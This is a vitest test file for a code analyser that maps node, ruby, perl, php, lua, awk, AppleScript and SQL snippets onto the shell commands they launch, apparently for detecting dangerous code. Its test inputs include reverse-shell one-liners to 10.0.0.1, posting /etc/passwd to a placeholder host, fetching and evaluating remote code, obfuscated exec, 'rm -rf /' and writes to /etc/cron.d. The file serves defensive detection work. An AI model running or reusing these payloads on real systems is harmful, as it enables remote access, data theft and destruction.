/** node, ruby, perl, php, lua, awk, AppleScript and SQL clients: the same as for python, shorter. */
import { describe, expect, test } from 'vitest';
import { analyseCode } from '../../../src/shell/interpreters/registry.ts';
import type { Language } from '../../../src/shell/invocation.ts';
import { CONTEXT, showLaunches } from './show.ts';

function table(language: Language, rows: readonly (readonly [string, readonly string[]])[]): void {
  describe(language, () => {
    test.each(rows.map(([code, expected]) => ({ code, expected })))('$code', ({ code, expected }) => {
      expect(showLaunches(analyseCode(language, code, CONTEXT))).toEqual(expected);
    });
  });
}

table('node', [
  ['require("fs").rmSync("/x",{recursive:true,force:true})', ['rm -r -f /x']],
  ['const {execSync: x} = require("child_process"); x("id")', ['sh: id']],
  ['import { rm } from "node:fs/promises"; await rm("/x", {recursive:true})', ['rm -r /x']],
  ['import * as cp from "child_process"; cp.spawn("sh", ["-c", "id"])', ['sh -c id']],
  ['require("child_process").exec("id", (e, o) => console.log(o))', ['sh: id']],
  ['require("child_" + "process")["ex" + "ec"]("id")', ['sh: id']],
  ['const fs=require("fs"); fs.readdirSync(".").forEach(f => fs.unlinkSync(f))', ['ls .', 'rm *']],
  ['["a","b"].forEach(f => require("fs").unlinkSync(f))', ['rm a', 'rm b']],
  ['for (const f of ["a","b"]) require("fs").unlinkSync(f)', ['rm a', 'rm b']],
  ['require("fs").rm(`${process.env.HOME}/x`, () => {})', ['rm /home/me/x']],
  [
    'const os=require("os"),path=require("path"); require("fs").rmSync(path.join(os.homedir(), ".ssh"))',
    ['rm /home/me/.ssh'],
  ],
  [
    'eval(Buffer.from("cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp","base64").toString())',
    ['sh: id'],
  ],
  ['new Function("return process")().mainModule.require("child_process").execSync("id")', ['sh: id']],
  ['const p = require("util").promisify(require("child_process").exec); p("id")', ['sh: id']],
  ['const run = (c) => require("child_process").execSync(c); run("id")', ['sh: id']],
  ['require("child_process").execSync(String.fromCharCode(105,100))', ['sh: id']],
  ['require("child_process").execSync(["r","m"].join("") + " x")', ['sh: rm x']],
  [
    '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4242,"10.0.0.1",function(){c.pipe(sh.stdin)})})()',
    ['/bin/sh', 'nc 10.0.0.1 4242'],
  ],
  [
    'fetch("http://x",{method:"POST",body:require("fs").readFileSync("/etc/passwd")})',
    ['cat /etc/passwd', 'curl --data @/etc/passwd http://x'],
  ],
  ['require("https").get("https://x/y", r => r.pipe(process.stdout))', ['curl https://x/y']],
  ['fetch("http://x").then(r => r.text()).then(t => eval(t))', ['curl http://x', 'opaque: $(curl http://x)']],
  ['console.log(process.env.AWS_SECRET_ACCESS_KEY)', ['echo ?$AWS_SECRET_ACCESS_KEY']],
  ['console.log(JSON.stringify(process.env))', ['env']],
  ['(await import("child_process")).execSync("id")', ['sh: id']],
  ['import("fs").then(fs => fs.rmSync("/x"))', ['rm /x']],
  [
    'import { createRequire } from "module"; const require = createRequire(import.meta.url); require("child_process").execSync("id")',
    ['sh: id'],
  ],
  // Handed on: what they are called with stands beside them, or cannot be seen.
  ['["id"].forEach(require("child_process").exec)', ['sh: id']],
  [
    'Promise.resolve("id").then(require("child_process").exec)',
    ['opaque: Promise.resolve().then(child_process.exec)'],
  ],
  [
    '[].constructor.constructor("return process")().mainModule.require("child_process").exec("id")',
    ['sh: id'],
  ],
  ['module.constructor._load("child_process").exec("id")', ['sh: id']],
  ['const x: string = "id"; require("child_process").execSync(x)', ['sh: id']],
  ['class A { run(c) { require("child_process").execSync(c) } } new A().run("id")', ['sh: id']],
  ['require("fs").readFile("x", (e, d) => eval(d))', ['cat x', 'file(node): x']],
  ['const a=[]; a.push("rm"); a.push("x"); require("child_process").spawn(a[0], a.slice(1))', ['rm x']],
  ['const a=process.argv[2]; require("child_process")[a]("id")', ['opaque: child_process.…']],
  ['var r = /["\']/g; console.log("a".replace(r, "")); require("child_process").execSync("id")', ['sh: id']],
  [
    'var app=Application.currentApplication(); app.includeStandardAdditions=true; app.doShellScript("id")',
    ['sh: id'],
  ],
  [
    'switch(x) { case 1: break }\ntry { a() } catch (e) { b() }\nfor (let i=0;i<3;i++) { console.log(i) }',
    [],
  ],
  ['for (const [k,v] of Object.entries({a:"b"})) require("fs").unlinkSync(v)', ['rm b']],
  ['Bun.spawn(["rm", "-rf", "/"])', ['rm -rf /']],
  ['Deno.removeSync("/x", { recursive: true })', ['rm -r /x']],
  ['require("fs").writeFileSync("/etc/cron.d/x", "y")', ['tee /etc/cron.d/x <<< y']],
  ['console.log(JSON.parse(require("fs").readFileSync(0,"utf8")).x)', []],
  [
    'console.log(JSON.parse(require("fs").readFileSync("package.json","utf8")).version)',
    ['cat package.json'],
  ],
  ['[1,2].map(x => x*2); const s = `a${1}`; /rm -rf/.test(s) // exec("x")', []],
  ['console.log(process.version, 4 / 2, "a" / 2)', []],
]);

table('ruby', [
  ['require "fileutils"; include FileUtils; rm_rf "/x"', ['rm -rf /x']],
  ['system("rm -rf /")', ['sh: rm -rf /']],
  ['system "rm", "-rf", "/"', ['rm -rf /']],
  ['`id`', ['sh: id']],
  ['%x(id)', ['sh: id']],
  ['require "fileutils"; FileUtils.rm_rf "/x"', ['rm -rf /x']],
  ['FileUtils.rm_rf(["a", "b"])', ['rm -rf a b']],
  ['Dir.glob("*.o").each { |f| File.delete(f) }', ['rm *.o']],
  ['Dir["*.o"].each do |f| File.delete f end', ['rm *.o']],
  ['%w[a b].each { |f| File.unlink(f) }', ['rm a', 'rm b']],
  ['puts File.read("x")', ['cat x']],
  ['open("|id").read', ['sh: id']],
  ['IO.popen(["rm","-rf","/"])', ['rm -rf /']],
  ['Kernel.send(:system, "id")', ['sh: id']],
  ['eval(Base64.decode64("c3lzdGVtKCJpZCIp"))', ['sh: id']],
  ['def go(x) system(x) end; go("id")', ['sh: id']],
  ['system "rm -rf #{ENV["HOME"]}/x"', ['sh: rm -rf /home/me/x']],
  ['TCPSocket.new("1.2.3.4",99)', ['nc 1.2.3.4 99']],
  ['require "pathname"; Pathname.new("x").rmtree', ['rm -rf x']],
  ['require "net/http"; puts Net::HTTP.get(URI("http://x/y"))', ['curl http://x/y']],
  ['File.open("x","w") { |f| f.write("y") }', ['tee x', 'tee -a x <<< y']],
  ['Object.const_get("Kernel").system("id")', ['sh: id']],
  ['method(:system).call("id")', ['sh: id']],
  ['a=["rm"]; a << "-rf" << "/"; system(*a)', ['rm -rf /']],
  ['system("ls", "-l", exception: true)', ['ls -l']],
  ['require "open-uri"; eval(URI.open("http://x").read)', ['curl http://x', 'opaque: $(curl http://x)']],
  ['{a: "b"}.each { |k,v| File.delete(v) }', ['rm b']],
  ['puts ENV.to_h', ['env']],
  ['require "json"; puts JSON.parse(STDIN.read)["x"]', []],
  ['puts [1,2].map { |x| x * 2 }.join(",") if true', []],
]);

table('perl', [
  ['system("rm -rf /")', ['sh: rm -rf /']],
  ['system "rm","-rf","/"', ['rm -rf /']],
  ['`id`; print qx{ls}', ['sh: id', 'sh: ls']],
  ['unlink glob("*.o")', ['rm *.o']],
  ['unlink <*.o>', ['rm *.o']],
  ['use File::Path; rmtree("/x")', ['rm -rf /x']],
  ['File::Path::rmtree("/x")', ['rm -rf /x']],
  ['my @f = qw(a b); unlink @f', ['rm a b']],
  ['foreach my $f (qw(a b)) { unlink $f }', ['rm a', 'rm b']],
  // A loop behind the statement is the statement's, not its last argument's.
  ['unlink $_ for ("a","b")', ['rm a', 'rm b']],
  ['system $_ for "id"', ['sh: id']],
  ['unlink for glob("d/*")', ['rm d/*']],
  ['map { system $_ } ("id")', ['sh: id']],
  ['$f = "system"; &$f("id")', ['sh: id']],
  ['syscall(59, "x")', ['opaque: syscall(…)']],
  ['open(F,"id|"); print <F>', ['sh: id']],
  ['open(my $f, "<", "/etc/passwd"); print while <$f>', ['cat /etc/passwd']],
  ['open(FH, ">", "/etc/x") or die; print FH "y"', ['tee /etc/x']],
  ['open(FH, ">>/etc/x")', ['tee -a /etc/x']],
  ['s/(.*)/system("id")/e', ['sh: id']],
  ['my $c = "rm"; $c .= " -rf /"; system($c)', ['sh: rm -rf /']],
  ['eval pack("H*","73797374656d2822696422293b")', ['sh: id']],
  ['sub r { system($_[0]) } r("id")', ['sh: id']],
  [
    'use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};',
    ['nc 10.0.0.1 4242', 'sh: /bin/sh -i'],
  ],
  [
    'use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => "1.2.3.4", PeerPort => 99);',
    ['nc 1.2.3.4 99'],
  ],
  ['use LWP::Simple; getprint("http://x")', ['curl http://x']],
  ['my @c=("rm"); push @c, "-rf", "/"; system(@c)', ['rm -rf /']],
  ['open(my $p, "-|", "id"); print <$p>', ['sh: id']],
  ['require "./x.pl"; do "./y.pl"', ['file(perl): ./x.pl', 'file(perl): ./y.pl']],
  ['system(qw(rm -rf /))', ['rm -rf /']],
  ['print q(system("x")); y/a-z/b-za/; print "a" if -e "/etc/passwd"', []],
  ['print $ENV{SECRET}', ['echo ?$SECRET']],
  ['s/foo/bar/g', []],
  ['print "hi $x\\n" if /foo/; $n++', []],
  ['print join(",", map { $_*2 } @ARGV), "\\n"', []],
  ['@F[0,1]; print "$F[0] $F[-1]\\n"', []],
  ['eval { die "x" }; print $@', []],
]);

table('php', [
  ['system("id");', ['sh: id']],
  ['<?php echo `id`; ?>', ['sh: id']],
  ['unlink("/x"); rmdir("/y");', ['rm /x', 'rmdir /y']],
  ['$f="sys"."tem"; $f("id");', ['sh: id']],
  ['eval(base64_decode("c3lzdGVtKCJpZCIpOw=="));', ['sh: id']],
  ['echo file_get_contents("/etc/passwd");', ['cat /etc/passwd']],
  ['foreach (glob("*.o") as $f) unlink($f);', ['rm *.o']],
  ['$s=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3");', ['nc 10.0.0.1 4242', 'sh: /bin/sh -i <&3']],
  ['array_map("unlink", ["a","b"]);', ['rm a', 'rm b']],
  ['call_user_func("system","id");', ['sh: id']],
  ['class A { function run($c) { return shell_exec($c); } } (new A)->run("id");', ['sh: id']],
  ['$x=[]; $x[]="rm"; $x[]="y"; system(implode(" ", $x));', ['sh: rm y']],
  ['foreach(["a"=>"b"] as $k => $v) unlink($v);', ['rm b']],
  ['system(implode(array_map("chr", [105,100])));', ['sh: id']],
  ['ob_start("system"); echo "id";', ['opaque: ob_start(…)']],
  ['preg_replace("/x/e", "system(\'id\')", "x");', ['sh: id']],
  ['file_put_contents("x.php", "<?php system(1);");', ['tee x.php <<< <?php system(1);']],
  ['echo json_decode(file_get_contents("php://stdin"))->x;', []],
  ['echo PHP_VERSION, phpversion(); // system("x")', []],
]);

table('lua', [
  ['os.execute("rm " .. "-rf /")', ['sh: rm -rf /']],
  ['os.remove("x"); local f = io.popen("id")', ['rm x', 'sh: id']],
  ['for _,f in ipairs({"a","b"}) do os.remove(f) end', ['rm a', 'rm b']],
  ['local f=io.open("x","w") f:write("hi")', ['tee x', 'tee -a x <<< hi']],
  ['load(string.char(111,115,46,101,120,101,99,117,116,101,40,34,105,100,34,41))()', ['sh: id']],
  ['local function r(c) return os.execute(c) end r("id")', ['sh: id']],
  ['local t={"a"} table.insert(t,"b") os.execute(table.concat(t," "))', ['sh: a b']],
  ['for k,v in pairs({a="b"}) do os.remove(v) end', ['rm b']],
  ['-- os.execute("x")\nprint("x")', []],
]);

table('awk', [
  ['BEGIN {system("/bin/sh")}', ['sh: /bin/sh']],
  ['{ system("rm " $1) }', ['sh: rm $1']],
  ['{ print $1 | "sh" }', ['sh -c sh <<< $1\n']],
  ['BEGIN { "id" | getline x; print x }', ['sh: id']],
  ['BEGIN { c = "r" "m"; system(c " x") }', ['sh: rm x']],
  ['BEGIN { while ((getline line < "/etc/passwd") > 0) print line }', ['cat /etc/passwd']],
  ['BEGIN { print "x" > "/etc/cron.d/y" }', ['tee /etc/cron.d/y <<< x']],
  ['{ print $0 >> "log" }', ['tee -a log <<< ?$0']],
  ['BEGIN { s = "/inet/tcp/0/10.0.0.1/99"; print "x" |& s }', ['nc 10.0.0.1 99']],
  ['BEGIN { f = "system"; @f("id") }', ['sh: id']],
  ['{print $2}', []],
  ['/rm -rf/ {n++} END {print n ? "yes" : "no"}', []],
  ['$3 > 5 && $1 ~ /x|y/ {print}', []],
]);

table('osascript', [
  ['do shell script "id"', ['sh: id']],
  ['do shell script "rm -rf " & quoted form of "/x"', ['sh: rm -rf /x']],
  ['do shell script "id" with administrator privileges', ['sudo sh -c id']],
  ['set c to "id"\ndo shell script c', ['sh: id']],
  ['tell application "Terminal" to do script "id"', ['bash: id']],
  ['display notification "do shell script" with title "x"', []],
]);

table('sql', [
  ['.shell id', ['sh: id']],
  ['\\! id', ['sh: id']],
  ["COPY t FROM PROGRAM 'id'", ['sh: id']],
  ["SELECT load_extension('/tmp/x.so')", ['file(other): /tmp/x.so']],
  ["SELECT writefile('/etc/x', 'y')", ['tee /etc/x']],
  ["SELECT * INTO OUTFILE '/tmp/x' FROM t", ['tee /tmp/x']],
  ['.output |sh', ['sh: sh']],
  ['.tables\nSELECT 1;', []],
]);
